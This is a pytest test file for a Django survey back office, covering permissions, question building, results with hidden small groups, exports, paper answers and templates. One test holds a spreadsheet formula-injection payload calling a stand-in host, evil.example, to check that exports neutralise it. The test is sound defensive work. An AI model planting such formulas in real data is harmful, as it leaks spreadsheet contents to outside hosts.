"""Back-office of a survey: building the questions, results, publication, exports, paper answers."""

import csv
import io
import json
import re
from datetime import timedelta

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from agora.actionlog.models import ActionLog
from agora.components.surveys import seeds, selectors, services
from agora.components.surveys.models import Export, Response, Survey
from agora.components.surveys.selectors import answer_count
from agora.components.surveys.tests.conftest import option
from agora.core.translations import tr
from agora.permissions import PermissionDenied
from agora.questionnaires.models import Condition, Question
from agora.spaces.models import Role
from agora.testing import factories


@pytest.fixture(autouse=True)
def _english(client):
    client.cookies["agora_language"] = "en"


def admin_url(component, name="index", **kwargs):
    return reverse(
        f"surveys_admin:{name}", kwargs={"space_id": component.space_id, "component_id": component.pk, **kwargs}
    )


def some_answers(survey, count):
    seeds.answer_sets(survey, count, seed=3)


def all_urls(component, question):
    names = [
        "index",
        "edit",
        "questions",
        "question_new",
        "copy",
        "save_template",
        "results",
        "texts",
        "publish",
        "paper",
        "exports",
        "templates",
    ]
    urls = [admin_url(component, name) for name in names]
    urls += [
        admin_url(component, name, question_id=question.pk)
        for name in ("question_edit", "question_delete", "question_move", "question_duplicate", "question_conditions")
    ]
    urls += [admin_url(component, "export", export_format=fmt) for fmt in ("csv", "xlsx", "json")]
    return urls


@pytest.mark.parametrize("who", ["participant", "moderator", "collaborator", "admin_of_another_space"])
def test_people_without_the_right_are_refused_every_screen_and_service(
    client, component, q, survey, organization, participant, who
):
    if who == "participant":
        user = participant
    else:
        space = (
            factories.SpaceFactory(organization=organization) if who == "admin_of_another_space" else component.space
        )
        name = {"moderator": Role.Name.MODERATOR, "collaborator": Role.Name.COLLABORATOR}.get(
            who, Role.Name.SPACE_ADMIN
        )
        user = factories.RoleFactory(space=space, name=name).user
        factories.member_of(user, organization)
    client.force_login(user)
    for url in all_urls(component, q["name"]):
        assert client.get(url).status_code == 403, url
        assert (
            client.post(
                url,
                {
                    "kind": "short_text",
                    "title__fr": "Piratée",
                    "direction": "up",
                    "questions": [str(q["bike"].pk)],
                    "reference": "x",
                },
            ).status_code
            == 403
        ), url
    for call in (
        lambda: services.update_survey(
            actor=user, component=component, introduction={}, terms={}, opens_at=None, closes_at=None
        ),
        lambda: services.publish_results(actor=user, component=component, question_ids=[q["bike"].pk]),
        lambda: services.unpublish_results(actor=user, component=component),
        lambda: services.enter_paper_answers(actor=user, component=component, values={}, reference="x"),
        lambda: services.note_export(actor=user, component=component, export_format="csv"),
        lambda: services.request_export(actor=user, component=component, export_format="csv"),
    ):
        with pytest.raises(PermissionDenied):
            call()
    survey.refresh_from_db()
    assert survey.results_published_at is None and not Response.objects.exists() and not Export.objects.exists()
    assert Question.objects.filter(questionnaire=survey.questionnaire).count() == 12
    assert not Question.objects.filter(title__fr="Piratée").exists()


def test_anonymous_visitors_go_to_the_login_page(client, component, q):
    for url in all_urls(component, q["name"]):
        response = client.get(url)
        assert response.status_code == 302 and "/login" in response["Location"], url


def test_the_officer_builds_a_question_with_options_and_a_condition(client, component, survey, q, space_admin):
    client.force_login(space_admin)
    assert client.get(admin_url(component, "questions")).status_code == 200
    assert "Ranking" in client.get(admin_url(component, "question_new")).content.decode()
    form = client.get(admin_url(component, "question_new") + "?kind=multiple").content.decode()
    assert "New options, one per line (French)" in form
    response = client.post(
        admin_url(component, "question_new"),
        {
            "kind": "multiple",
            "title__fr": "Vos usages",
            "title__en": "Your uses",
            "help_text__fr": "",
            "help_text__en": "",
            "mandatory": "on",
            "max_choices": "2",
            "new_options__fr": "Travail\nLoisirs\nCourses",
            "new_options__en": "Work\nLeisure\nShopping",
        },
    )
    assert response.status_code == 302
    added = Question.objects.get(title__fr="Vos usages")
    assert [o.label for o in added.options.all()] == [
        tr("Travail", "Work"),
        tr("Loisirs", "Leisure"),
        tr("Courses", "Shopping"),
    ]
    assert added.max_choices == 2 and added.mandatory
    # Shown only to cyclists.
    data = {"mode": "all", "source_0": str(q["bike"].pk), "operator_0": "equals", "option_0": str(option(q["bike"], 0))}
    assert client.post(admin_url(component, "question_conditions", question_id=added.pk), data).status_code == 302
    condition = Condition.objects.get(question=added)
    assert (condition.source_id, condition.option_id) == (q["bike"].pk, option(q["bike"], 0))
    # A condition on a later question is refused with a message.
    data = {"mode": "all", "source_0": str(added.pk), "operator_0": "answered"}
    response = client.post(admin_url(component, "question_conditions", question_id=q["km"].pk), data)
    assert response.status_code == 200 and "Condition 1: the answer to" in response.content.decode()
    assert not Condition.objects.filter(question=q["km"]).exists()
    # The first question has none before it to depend on.
    html = client.get(admin_url(component, "question_conditions", question_id=q["bike"].pk)).content.decode()
    assert "this one has none before it" in html

    assert (
        client.post(admin_url(component, "question_move", question_id=added.pk), {"direction": "up"}).status_code == 302
    )
    assert client.post(admin_url(component, "question_duplicate", question_id=added.pk)).status_code == 302
    assert Question.objects.filter(title__fr="Vos usages (copy)").exists()
    assert client.post(admin_url(component, "question_delete", question_id=q["name"].pk)).status_code == 302
    assert not Question.objects.filter(pk=q["name"].pk).exists()
    assert client.get(admin_url(component, "question_move", question_id=added.pk)).status_code == 405
    verbs = set(ActionLog.objects.values_list("verb", flat=True))
    assert {
        "questionnaires.question_added",
        "questionnaires.conditions_set",
        "questionnaires.question_moved",
        "questionnaires.question_duplicated",
        "questionnaires.question_deleted",
    } <= verbs


def test_once_answered_types_and_options_are_locked_texts_are_not(client, component, survey, q, space_admin):
    some_answers(survey, 3)
    client.force_login(space_admin)
    bike = q["bike"]
    page = client.get(admin_url(component, "question_edit", question_id=bike.pk)).content.decode()
    assert "People have answered: the type can no longer change." in page
    fields = {
        "title__fr": "Roulez-vous à vélo ?",
        "title__en": "",
        "help_text__fr": "",
        "help_text__en": "",
        "mandatory": "on",
    }
    for o in bike.options.all():
        fields[f"option_{o.pk}__fr"] = o.label["fr"]
        fields[f"option_{o.pk}__en"] = o.label["en"]
        if o.free_text:
            fields[f"option_{o.pk}_other"] = "on"
    refused = client.post(
        admin_url(component, "question_edit", question_id=bike.pk), {**fields, "new_options__fr": "Parfois"}
    )
    assert refused.status_code == 400 and "already has answers" in refused.content.decode()
    assert client.post(admin_url(component, "question_delete", question_id=q["km"].pk)).status_code == 302
    assert Question.objects.filter(pk=q["km"].pk).exists()
    assert client.post(admin_url(component, "question_edit", question_id=bike.pk), fields).status_code == 302
    bike.refresh_from_db()
    assert bike.title["fr"] == "Roulez-vous à vélo ?" and bike.options.count() == 3


def test_results_cross_filters_hide_small_groups(client, component, survey, q, space_admin):
    some_answers(survey, 40)
    client.force_login(space_admin)
    html = client.get(admin_url(component, "results")).content.decode()
    assert "40 responses." in html and "Answers per option" in html and "<svg" in html
    found = selectors.groups(
        survey, list(Question.objects.filter(questionnaire=survey.questionnaire)), f"q{q['bike'].pk}"
    )
    groups = {value: size for value, _label, size in found}
    big = next(value for value, size in groups.items() if size >= 10)
    small = next((value for value, size in groups.items() if 0 < size < 10), None)
    html = client.get(admin_url(component, "results") + f"?by=q{q['bike'].pk}&group={big}").content.decode()
    assert f"({groups[big]} answers)" in html
    if small is not None:
        html = client.get(admin_url(component, "results") + f"?by=q{q['bike'].pk}&group={small}").content.decode()
        assert "fewer than 10 answers: its results are not shown" in html
        assert "Answers per option" not in html


def test_free_texts_are_listed_and_searched(client, component, survey, q, space_admin, participant):
    for text in ("Trop de voitures rue Nationale", "Pas de parking vélo à la gare"):
        person = factories.UserFactory()
        factories.member_of(person, component.space.organization)
        services.respond(
            actor=person,
            component=component,
            values={q["bike"].pk: {"option": option(q["bike"], 1), "other": ""}, q["why_not"].pk: text},
        )
    client.force_login(space_admin)
    html = client.get(admin_url(component, "texts") + f"?question={q['why_not'].pk}&q=gare").content.decode()
    assert "Pas de parking vélo à la gare" in html and "rue Nationale" not in html and "1 answer." in html


def test_published_results_show_only_the_chosen_questions(client, component, survey, q, space_admin):
    some_answers(survey, 12)
    public = reverse("surveys:results", kwargs=component.url_kwargs())
    assert client.get(public).status_code == 404
    client.force_login(space_admin)
    assert client.post(admin_url(component, "publish"), {"questions": [str(q["bike"].pk)]}).status_code == 302
    client.logout()
    html = client.get(public).content.decode()
    assert "Faites-vous du vélo ?" in html and "Priorités" not in html and "<table>" in html
    assert ActionLog.objects.get(verb="surveys.results_published").visibility == "public"
    client.force_login(space_admin)
    client.post(admin_url(component, "publish"), {"unpublish": "1"})
    assert client.get(public).status_code == 404


def test_exports_have_one_row_per_response_and_one_column_per_question(client, component, survey, q, space_admin):
    some_answers(survey, 7)
    client.force_login(space_admin)
    response = client.get(admin_url(component, "export", export_format="csv"))
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 8
    header = rows[0]
    assert header[:5] == ["response", "created_at", "updated_at", "channel", "reference"]
    assert "Q6 Priorités — Sécurité" in header and "Q7 Satisfaction — Centre" in header
    data = json.loads(b"".join(client.get(admin_url(component, "export", export_format="json")).streaming_content))
    assert len(data["responses"]) == 7 and data["columns"] == header
    workbook = load_workbook(io.BytesIO(b"".join(client.get(admin_url(component, "export", export_format="xlsx")))))
    assert workbook.active.max_row == 8
    assert ActionLog.objects.filter(verb="surveys.answers_exported").count() == 3


def test_staff_type_in_paper_questionnaires(client, component, survey, q, space_admin):
    client.force_login(space_admin)
    page = {
        "page": "0",
        "go": "next",
        f"q{q['bike'].pk}": str(option(q["bike"], 1)),
        f"q{q['why_not'].pk}": "Trop loin",
    }
    assert "Page 2 of 2" in client.post(admin_url(component, "paper"), page).content.decode()
    review = client.post(admin_url(component, "paper"), {"page": "1", "go": "next"}).content.decode()
    assert "Batch or place the paper form comes from" in review
    refused = client.post(admin_url(component, "paper"), {"page": "review", "go": "submit"})
    assert refused.status_code == 400 and not Response.objects.exists()
    response = client.post(
        admin_url(component, "paper"), {"page": "review", "go": "submit", "reference": "Marché, 12 mai"}
    )
    assert response.status_code == 302
    stored = Response.objects.get()
    assert (stored.channel, stored.entered_by, stored.reference, stored.respondent) == (
        "paper",
        space_admin,
        "Marché, 12 mai",
        None,
    )
    assert ActionLog.objects.filter(verb="surveys.paper_answers_entered").exists()
    assert answer_count(Survey.objects.get()) == 1


def test_settings_and_templates(client, component, survey, q, space_admin, organization):
    client.force_login(space_admin)
    response = client.post(
        admin_url(component, "edit"),
        {
            "introduction__fr": "Donnez votre avis",
            "introduction__en": "",
            "terms__fr": "",
            "terms__en": "",
            "opens_at": "2027-01-10T09:00",
            "closes_at": "2027-01-01T09:00",
        },
    )
    assert response.status_code == 400 and "must open before it closes" in response.content.decode()
    assert client.post(admin_url(component, "save_template"), {"name": "Modèle vélo"}).status_code == 302
    other = factories.ComponentFactory(space=component.space, manifest_name="surveys")
    target = services.ensure_survey(other)
    template = target.questionnaire.__class__.objects.get(is_template=True)
    assert client.post(admin_url(other, "copy"), {"source": str(template.pk)}).status_code == 302
    assert Question.objects.filter(questionnaire=target.questionnaire).count() == 12
    library = client.get(admin_url(component, "templates")).content.decode()
    assert "Modèle vélo" in library
    delete = admin_url(component, "template_delete", template_id=template.pk)
    assert "Delete the template “Modèle vélo”?" in client.get(delete).content.decode()
    assert client.post(delete).status_code == 302
    assert not template.__class__.objects.filter(pk=template.pk).exists()
    assert Question.objects.filter(questionnaire=target.questionnaire).count() == 12
    # The survey's own questionnaire is no template: not deleted through the library.
    other_delete = admin_url(component, "template_delete", template_id=survey.questionnaire.pk)
    assert client.post(other_delete).status_code == 404


def test_a_file_of_every_answer_is_prepared_in_the_background(client, component, survey, q, space_admin):
    some_answers(survey, 1203)
    client.force_login(space_admin)
    assert client.post(admin_url(component, "exports"), {"export_format": "csv"}).status_code == 302
    export = Export.objects.get()  # the test backend runs the task at once
    assert (export.state, export.rows_done, export.rows_total, export.percent) == ("done", 1203, 1203, 100)
    page = client.get(admin_url(component, "exports")).content.decode()
    assert 'value="100"' in page and "Ready" in page
    response = client.get(admin_url(component, "export_download", export_id=export.pk))
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert response["Content-Disposition"].startswith(f'attachment; filename="survey-{component.pk}-answers.csv"')
    assert len(list(csv.reader(io.StringIO(text)))) == 1204
    assert ActionLog.objects.get(verb="surveys.answers_exported").data == {"format": "csv", "background": True}
    refused = client.post(admin_url(component, "exports"), {"export_format": "pdf"})
    assert refused.status_code == 302 and Export.objects.count() == 1
    other = factories.ComponentFactory(space=component.space, manifest_name="surveys")
    services.ensure_survey(other)
    assert client.get(admin_url(other, "export_download", export_id=export.pk)).status_code == 404


def test_results_pages_read_the_counters_not_the_answers(client, component, survey, q, space_admin):
    """The same queries for 5 answers as for 300: no page reads every answer."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    services.publish_results(actor=space_admin, component=component, question_ids=[q["bike"].pk, q["rank"].pk])
    client.force_login(space_admin)
    pages = [admin_url(component, "results"), reverse("surveys:results", kwargs=component.url_kwargs())]

    def queries():
        counts = []
        for url in pages:
            client.get(url)  # warm the per-process memo
            with CaptureQueriesContext(connection) as captured:
                assert client.get(url).status_code == 200
            answers_read = [
                query["sql"]
                for query in captured.captured_queries
                if re.search(r'FROM "?questionnaires_answer"?\s', query["sql"])
            ]
            assert not answers_read, (url, answers_read)
            counts.append(len(captured))
        return counts

    some_answers(survey, 5)
    few = queries()
    seeds.answer_sets(survey, 300, seed=9)
    assert queries() == few


def test_results_split_by_verified_district_hide_small_districts(
    client, component, survey, q, space_admin, organization
):
    from agora.verifications.models import Verification

    scope_type = factories.ScopeTypeFactory(organization=organization)
    gare = factories.ScopeFactory(organization=organization, scope_type=scope_type, name=tr("Gare"))
    pres = factories.ScopeFactory(organization=organization, scope_type=scope_type, name=tr("Les Prés"))
    for index in range(14):
        person = factories.UserFactory()
        factories.member_of(person, organization)
        Verification.objects.create(
            organization=organization, user=person, method="census", status="active", scope=gare if index < 11 else pres
        )
        services.respond(
            actor=person,
            component=component,
            values={q["bike"].pk: {"option": option(q["bike"], 0 if index < 11 else 1), "other": ""}, q["often"].pk: 5}
            if index < 11
            else {q["bike"].pk: {"option": option(q["bike"], 1), "other": ""}},
        )
    client.force_login(space_admin)
    url = admin_url(component, "results") + "?by=district"
    html = client.get(url).content.decode()
    assert "Gare (11)" in html and "Les Prés (fewer than 10)" in html
    html = client.get(url + f"&group={gare.pk}").content.decode()
    assert "Results of the group “Gare” (11 answers)." in html and "Average: 5.00." in html
    html = client.get(url + f"&group={pres.pk}").content.decode()
    assert "fewer than 10 answers: its results are not shown" in html


def test_exports_show_formulas_typed_by_people_as_text(client, component, survey, q, space_admin, participant):
    payload = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    services.respond(
        actor=participant,
        component=component,
        values={q["bike"].pk: {"option": option(q["bike"], 1), "other": ""}, q["why_not"].pk: payload},
    )
    client.force_login(space_admin)
    text = b"".join(client.get(admin_url(component, "export", export_format="csv")).streaming_content)
    cells = [cell for row in csv.reader(io.StringIO(text.decode("utf-8-sig"))) for cell in row]
    assert "'" + payload in cells and payload not in cells
    workbook = load_workbook(io.BytesIO(b"".join(client.get(admin_url(component, "export", export_format="xlsx")))))
    values = [cell.value for row in workbook.active.iter_rows() for cell in row]
    assert "'" + payload in values and payload not in values


def test_old_files_of_every_answer_are_removed_after_the_next_export_and_by_the_command(
    client, component, survey, q, space_admin, settings, django_capture_on_commit_callbacks
):
    settings.AGORA_SURVEY_EXPORT_DAYS = 7
    some_answers(survey, 3)
    client.force_login(space_admin)
    assert client.post(admin_url(component, "exports"), {"export_format": "csv"}).status_code == 302
    old = Export.objects.get()
    storage = old.file.storage
    assert storage.exists(old.file.name)
    Export.objects.filter(pk=old.pk).update(created_at=timezone.now() - timedelta(days=8))
    recent = Export.objects.create(survey=survey, export_format="json", requested_by=space_admin)
    Export.objects.filter(pk=recent.pk).update(created_at=timezone.now() - timedelta(days=6))
    # The next export (the worker queues the cleanup after it) removes the old one and its file.
    with django_capture_on_commit_callbacks(execute=True):
        assert client.post(admin_url(component, "exports"), {"export_format": "xlsx"}).status_code == 302
    assert not Export.objects.filter(pk=old.pk).exists() and not storage.exists(old.file.name)
    assert Export.objects.count() == 2
    newest = Export.objects.exclude(pk=recent.pk).get()
    Export.objects.filter(pk=newest.pk).update(created_at=timezone.now() - timedelta(days=30))
    out = io.StringIO()
    with django_capture_on_commit_callbacks(execute=True):
        call_command("remove_old_survey_exports", stdout=out)
    assert "1 survey export(s) older than 7 days removed." in out.getvalue()
    assert list(Export.objects.all()) == [recent] and not storage.exists(newest.file.name)
    call_command("remove_old_survey_exports", "--days", "5", stdout=out)
    assert not Export.objects.exists()
